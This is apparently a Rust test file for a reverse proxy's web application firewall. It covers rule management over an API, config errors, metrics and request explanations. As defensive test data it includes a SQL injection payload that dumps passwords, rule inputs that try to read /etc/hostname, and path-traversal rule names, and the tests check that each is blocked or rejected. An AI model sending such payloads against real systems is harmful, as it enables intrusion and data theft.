    let no_cats = "SecRule ARGS \"@contains cat\" \"id:1000401,phase:2,deny,log,t:none,msg:'no cats'\"";
    assert_eq!(status(&proxy), 200);
    let request = json!({"name": "cats", "rules": no_cats, "dry_run": true}).to_string();
    assert_eq!((proxy.api("POST", "/api/v1/rules", &request).status, status(&proxy)), (200, 200));
    let answer = add(&proxy, no_cats).json();
    assert_eq!((&answer["ids"], &answer["undo"]), (&json!([1000401]), &json!("sunbeam waf remove cats")));
    assert_eq!(status(&proxy), 403, "the very next request");
    // Wrong ones change nothing, whatever is wrong with them.
    for (rules, says) in [
        ("\nSecRule ARGS \"@nonsense x\" \"id:1,phase:2,pass\"", "api:cats:2: "),
        ("SecRule ARGS x \"id:1000001,phase:2,pass\"", "1000001"),
        ("Include /etc/hostname", "read no files"),
        ("IncludeOptional /etc/host*", "read no files"),
        ("SecRule ARGS \"@pmFromFile /etc/hostname\" \"id:7,phase:2,deny\"", "read no files"),
        ("SecUnicodeMapFile /etc/hostname 20127", "read no files"),
    ] {
        let answer = add(&proxy, rules);
        let error = answer.json()["error"].as_str().unwrap().to_owned();
        assert!(answer.status == 422 && error.contains(says), "{rules}: {} {error}", answer.status);
        assert_eq!(status(&proxy), 403, "{rules}");
    }
    for name in ["../escape", "", ".hidden", "a/b"] {
        let request = json!({"name": name, "rules": no_cats}).to_string();
        assert_eq!(proxy.api("POST", "/api/v1/rules", &request).status, 422, "{name}");
    }
    // A reload keeps them.
    proxy.reload(&format!("{config}\n[limits]\nmax_url_bytes = 8000\n")).unwrap();
    assert_eq!(status(&proxy), 403);
    let listed = proxy.api("GET", "/api/v1/rules", "").json();
    assert_eq!(listed["rules"], json!([{"name": "cats", "ids": [1000401], "rules": no_cats}]));
    let told = add(&proxy, "SecRule ARGS \"@contains dog\" \"id:1000402,phase:2,deny,log,t:none\"").json();
    assert_eq!((told["replaced"].as_str(), status(&proxy)), (Some(no_cats), 200));
    assert_eq!(post(&proxy, FORM, "animal=dog").status, 403);
    assert_eq!(proxy.api("DELETE", "/api/v1/rules/cats", "").status, 200);
    assert_eq!(post(&proxy, FORM, "animal=dog").status, 200);
    assert_eq!(proxy.api("DELETE", "/api/v1/rules/cats", "").status, 404);
}

#[test]
fn a_rule_set_that_is_not_there_is_told_with_the_command_that_gets_it() {
    let folder = TestFolder::new();
    let told = |text: &str| {
        let path =
            folder.write("config.toml", format!("listen.https = []\nlisten.http = \"127.0.0.1:0\"\n{text}"));
        match load(&ConfigFiles { path, profile: None }, Config::check) {
            Ok(_) => String::new(),
            Err(error) => error.to_string(),
        }
    };
    assert_eq!(told(""), "");
    let missing = told("waf.ruleset = \"crs\"\nwaf.crs_path = \"/nonexistent/crs\"\n");
    assert!(missing.contains("config.toml:4:5: `waf.crs_path`: "), "{missing}");
    assert!(missing.contains("sunbeam waf install-crs"), "{missing}");
    let empty = folder.join("crs");
    fs::create_dir_all(&empty).unwrap();
    let empty = told(&format!("waf.ruleset = \"crs\"\nwaf.crs_path = {empty:?}\n"));
    assert!(empty.contains("sunbeam waf install-crs"), "{empty}");
    let off = "waf.enabled = false\nwaf.ruleset = \"crs\"\nwaf.crs_path = \"/nonexistent/crs\"\n";
    assert_eq!(told(off), "", "nobody asks for it");
    for (text, says) in [
        ("waf.paranoia_level = 5\n", "1 to 4"),
        ("waf.inspected_types = [\"json\"]\n", "`json` is no media type"),
        ("waf.wasm_dir = \"x\"\n", "not supported yet"),
        ("waf.on_budget = \"fail\"\n", "is not one of"),
        ("waf.rules_dir = \"/nonexistent\"\n", "is not a folder"),
    ] {
        assert!(told(text).contains(says), "{text}: {}", told(text));
    }
}

#[test]
fn what_rules_found_is_measured_and_explained() {
    let backend = TestUpstream::echo();
    let proxy = start(RULES, &backend, "", "");
    post(&proxy, FORM, "q=1%27+UNION+SELECT+password+FROM+users--+-");
    post(&proxy, FORM, "q=shoes");
    wait_for_metric(
        &proxy,
        "sunbeam_waf_decisions_total",
        &[("decision", "pass"), ("category", "none")],
        1.0,
    );
    let page = proxy.node().registry().render(true);
    for name in ["sunbeam_waf_inspection_duration_seconds", "waf_inspection_duration_seconds"] {
        for (category, result) in [("sqli", "block"), ("none", "pass")] {
            let line = format!("{name}_count{{category=\"{category}\",result=\"{result}\"}} 1\n");
            assert!(page.contains(&line), "{line} in {page}");
        }
        assert!(
            page.contains(&format!("{name}_bucket{{category=\"none\",result=\"pass\",le=\"0.000001\"}}"))
        );
    }
    assert!(page.contains("\nwaf_events_blocked_total 1\n"));
    let explain = |body: &str| {
        let request = json!({
            "method": "POST", "url": format!("https://{HOST}/form?password=UNION+SELECT+1"),
            "headers": [["content-type", FORM.1]], "body": body,
        });
        proxy.api("POST", "/api/v1/explain", &request.to_string()).json()
    };
    let told = explain("q=1%27+UNION+SELECT+password+FROM+users--+-");
    assert_eq!((&told["decision"]["layer"], &told["decision"]["status"]), (&json!("waf"), &json!(403)));
    let layer: &Value = told["layers"].as_array().unwrap().last().unwrap();
    assert_eq!((&layer["layer"], &layer["verdict"]), (&json!("waf"), &json!("block")));
    let (waf, matches) = (&told["waf"], told["waf"]["rules"].as_array().unwrap());
    assert_eq!((&waf["score"], &waf["threshold"], &waf["category"]), (&json!(10), &json!(5), &json!("sqli")));
    let found = |target: &str| matches.iter().find(|found| found["target"] == target).unwrap();
    assert_eq!(
        (&found("ARGS:q")["rule"], &found("ARGS:q")["message"]),
        (&json!(1_000_001), &json!("SQL in a value"))
    );
    assert_eq!(found("ARGS:q")["value"], ATTACK);
    assert_eq!(found("ARGS:password")["value"], "[redacted]");
    assert!(
        found("ARGS:q")["at"].as_str().unwrap().ends_with("rules/own.conf:2"),
        "{}",
        found("ARGS:q")["at"]
    );
    assert_eq!(backend.seen().len(), 1, "nothing of it was sent");
    // Nor was it counted.
    let stats = proxy.api("GET", "/api/v1/waf/stats", "").json();
    assert_eq!(
        (&stats["transactions"], &stats["sampled"], &stats["timed"]),
        (&json!(2), &json!(1), &json!(1))
    );
    let rule = stats["rules"].as_array().unwrap().iter().find(|rule| rule["id"] == 1_000_001).unwrap();
    assert_eq!((&rule["hits"], &rule["runs"], &rule["matches"]), (&json!(1), &json!(1), &json!(1)));
    assert!(rule["nanoseconds"].as_u64() > Some(0) && rule["category"] == "sqli", "{rule}");
    let rules = proxy.api("GET", "/api/v1/waf/rules", "").json();
    let rule = rules["rules"].as_array().unwrap().iter().find(|rule| rule["id"] == 1_000_001).unwrap();
    assert!(rule["at"].as_str().unwrap().ends_with("rules/own.conf:2") && rule["is_asked"] == true, "{rule}");
}

/// A client that nobody has anything against.
#[test]
fn an_exempt_client_is_not_looked_at() {
    let backend = TestUpstream::echo();
    let proxy = start(RULES, &backend, "lists.allow = [\"127.0.0.1/32\"]\n", "");
    let answer = post(&proxy, FORM, "animal=a+herd+of+walrus");
    assert_eq!((answer.status, record(&proxy, &answer).rules.len()), (200, 0));
    let client: TestClient = proxy.client();
    assert_eq!(client.get(HOST, "/?animal=a+herd+of+walrus").status, 200);
}
